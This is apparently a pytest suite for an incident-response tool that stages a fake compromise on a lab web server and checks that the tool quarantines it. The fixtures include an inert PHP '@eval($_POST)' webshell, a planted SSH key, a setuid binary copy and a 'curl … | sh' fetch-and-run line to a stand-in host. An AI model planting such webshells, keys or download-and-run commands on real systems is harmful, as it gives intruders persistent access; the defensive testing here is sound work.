"""What www-data shapes on a real host costs that one thing: files in memory leave their place, a key is out of force, a process stops, one line brings back one file."""

from __future__ import annotations

import re
import shlex
import shutil
from collections.abc import Callable
from pathlib import Path

from auditor import lab
from tests.lab.fixtures import INVENTORY, environment, run

ROOT = "/var/www/antruc.test"
SHELL, OTHER = f"{ROOT}/wp-content/uploads/vo.php", f"{ROOT}/wp-content/uploads/vo2.php"
MEMORY = ("/dev/shm/nang", "/dev/shm/thua", "/dev/shm/lon-len")  # noqa: S108  what www-data keeps there
AS_WWW = "setpriv --reuid www-data --regid www-data --clear-groups"
WRITER = "import os; f = open('/dev/shm/lon-len', 'ab', 0)\nwhile f.write(b'x' * 65536): os.ftruncate(f.fileno(), f.tell() % 400_000_000)"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGKGtDTOTTFENJJ1UIL/QiCJpNVGuqBcL1BtEaSb78jE luytre-lab"
FINGERPRINT = "SHA256:WPxiTOIJ29Avp31Y7FfnKXJXu2gelIMoFjkvk8AK3zs"
MADE = f"""set -e
useradd -m canbo
install -d -o canbo -g canbo -m 700 /home/canbo/.ssh
echo '{KEY}' > /home/canbo/.ssh/authorized_keys
install -d -o www-data -g www-data -m 700 /var/www/.ssh
{AS_WWW} sh -c 'truncate -s 20M /var/www/.ssh/authorized_keys; truncate -s 1100M {MEMORY[1]}; echo x > {MEMORY[0]}; echo x > {MEMORY[2]}'
{AS_WWW} python3 -c 'import os; os.setxattr("{MEMORY[0]}", "user.x", b"x" * 60000)'
echo '<?php /* luytre-lab: inert */' | tee {SHELL} > {OTHER}
sed -i '1a if (!file_exists("{SHELL}")) {{ http_response_code(500); exit; }}' {ROOT}/wp-config.php
systemd-run -q --unit luytre-lab-ghi --uid www-data python3 -c "{WRITER}"
systemd-run -q --unit luytre-lab-bus --uid www-data dbus-daemon --nofork --session --address=unix:path=/dev/shm/bus
systemctl reload 'php*-fpm'
until pgrep -u www-data dbus-daemon > /dev/null && [ $(stat -c %s {MEMORY[2]}) -gt 100000 ]; do sleep 0.1; done
pgrep -u www-data dbus-daemon"""
CHOSEN = f"""sed -i '2a define("X_PASSWORD", "uploads/anh-bien-mat");' {ROOT}/wp-config.php
echo '192.0.2.1 - - "GET /wp-content/uploads/anh-bien-mat/a.php"' >> /var/log/nginx/access.log"""
LEFT = f"ls {' '.join(MEMORY)} {SHELL} {OTHER} /var/www/.ssh/authorized_keys 2> /dev/null; true"


def said(script: str) -> str:
    told = lab.run_on_machine_as_root("web1", script)
    assert told.returncode == 0, told.stderr
    return str(told.stdout.decode())


def test_what_a_lesser_user_shapes_costs_that_one_thing(fresh: Callable[..., None], tmp_path: Path) -> None:
    fresh("web1")
    bus = said(MADE).split()[0]
    inventory = shutil.copytree(INVENTORY, tmp_path / "inventory")  # evidence is signed, by a key that its office gets
    state, who = environment(tmp_path), ("--who", "Văn phòng", "-i", str(inventory), "--lang", "en")
    incident = run(state, "incident", "open", "antruc.test", *who).out.split()[0]
    command = ("incident", "contain", incident)
    try:
        wanted = [word for path in MEMORY for word in ("file", path)]
        wanted += ["process", f"{bus}/usr/bin/dbus-daemon", "key", FINGERPRINT]
        contained = run(state, *command, *wanted, *who)
        assert contained.code == 0, contained.out + contained.err
        for path in MEMORY:
            assert f"{path} is quarantined on web1" in contained.out
        assert contained.out.count(".luytre-quarantine-") >= 2
        assert re.search(r"are set aside as a whole.*/var/www/\.ssh/authorized_keys", contained.out), contained.out
        assert said(f"cut -c 1-4 /home/canbo/.ssh/authorized_keys; ps -o stat= -p {bus} | cut -c 1") == "# SC\nT\n"
        assert said(LEFT).split() == [SHELL, OTHER]

        fallen = run(state, *command, "file", SHELL, "file", OTHER, *who)
        assert fallen.code == 1
        assert "antruc.test serves again" in fallen.out
        assert said(LEFT).split() == [SHELL]

        unjudged = run(state, *command, "file", SHELL, *who, "--unjudged", "antruc.test")
        assert "antruc.test no longer serves as before" in unjudged.out
        assert said(LEFT).split() == []

        released = run(state, "incident", "release", incident, *who)
        assert released.code == 0, released.out + released.err
        assert sorted(said(LEFT).split()) == sorted([*MEMORY, SHELL, OTHER, "/var/www/.ssh/authorized_keys"])
        assert said("cut -c 1-4 /home/canbo/.ssh/authorized_keys") == "ssh-\n"
    finally:
        lab.run_on_machine_as_root("web1", "systemctl stop luytre-lab-ghi luytre-lab-bus")


def test_who_writes_a_configuration_blanks_no_words_in_evidence(fresh: Callable[..., None], tmp_path: Path) -> None:
    fresh("web1")
    said(CHOSEN)
    inventory = shutil.copytree(INVENTORY, tmp_path / "inventory")
    state, who = environment(tmp_path), ("--who", "Văn phòng", "-i", str(inventory), "--lang", "en")
    incident = run(state, "incident", "open", "antruc.test", *who).out.split()[0]
    collected = run(state, "incident", "collect", incident, *who)
    assert collected.code == 0, collected.out + collected.err
    log = (Path(collected.out.splitlines()[-1]) / "[root]/var/log/nginx/access.log").read_text("utf-8")
    assert "GET /wp-content/uploads/anh-bien-mat/a.php" in log, [one for one in log.splitlines() if "192.0.2.1" in one]


AGAIN = f"{ROOT}/wp-content/uploads/mot.php"
COPIES = (AGAIN, *(f"{ROOT}/wp-content/uploads/ban-{number}.php" for number in range(3)))
LONG = f"{ROOT}/wp-content/uploads/{'d' * 60}/{'e' * 60}/x.php"
ROTATED = "/etc/logrotate.d/dpkg"
SHELL_OF_ONE_LINE = "<?php exit; /* luytre-lab: inert */ @eval($_POST['{}']);"
LAID = f"""set -e
install -d -o www-data -g www-data {LONG.rpartition("/")[0]} /tmp/day
for place in {" ".join(COPIES)}; do echo "{SHELL_OF_ONE_LINE.format("x").replace("$", "\\$")}" > $place; chown www-data: $place; done
echo "{SHELL_OF_ONE_LINE.format("y").replace("$", "\\$")}" > {LONG}; chown www-data: {LONG}
{AS_WWW} sh -c 'for n in $(seq 30); do cp /usr/bin/true /tmp/day/.$n; done'
echo 'exit; curl -fsS https://x.example/a | sh' > '{ROTATED} (x)'
cp /usr/bin/true '/usr/bin/sudo (x)'; chmod 4755 '/usr/bin/sudo (x)'"""


def test_who_lays_much_hides_nothing_and_what_he_lays_again_is_taken_again(
    fresh: Callable[..., None], tmp_path: Path
) -> None:
    fresh("web1")
    inventory, state = shutil.copytree(INVENTORY, tmp_path / "inventory"), environment(tmp_path)
    who = ("--who", "Văn phòng", "-i", str(inventory), "--lang", "en")

    def hunted() -> None:
        told = run(state, "hunt", "-i", str(inventory), "--limit", "web1", "--lang", "en")
        assert told.code == 1, told.err

    said(LAID)
    hunted()
    opened = run(state, "incident", "open", "--all-found", "web1", "--yes", *who)
    for place in COPIES:
        assert f"{place} is quarantined on web1" in opened.out
    assert "/usr/bin/sudo (x)" in opened.out
    (find,) = [line.strip() for line in opened.out.splitlines() if "-path" in line and "eee" in line]
    assert said(f"{find}").split() == [LONG]
    lent = [
        line.strip() for line in opened.out.splitlines() if "0o1777" in line and line.endswith("'/usr/bin/sudo (x)'")
    ]
    for line in lent:
        said(line)
    assert said("stat -c %a /usr/bin/sudo '/usr/bin/sudo (x)'").split() == ["4755", "755"]
    assert said(f"ls {ROTATED}*").split("\n") == [ROTATED, ""]

    said(f"echo '<?php exit; /* luytre-lab: inert */ @eval($_POST[1]);' > {AGAIN}")
    hunted()
    step = run(state, "incident", "next", "-i", str(inventory), "--json", "--lang", "en").json
    assert step["step"] == "contain", step
    again = run(state, *shlex.split(step["commands"][0])[1:], "--yes", "--lang", "en")
    assert f"{AGAIN} is quarantined on web1" in again.out
    assert said(f"ls {AGAIN} 2> /dev/null; true") == ""
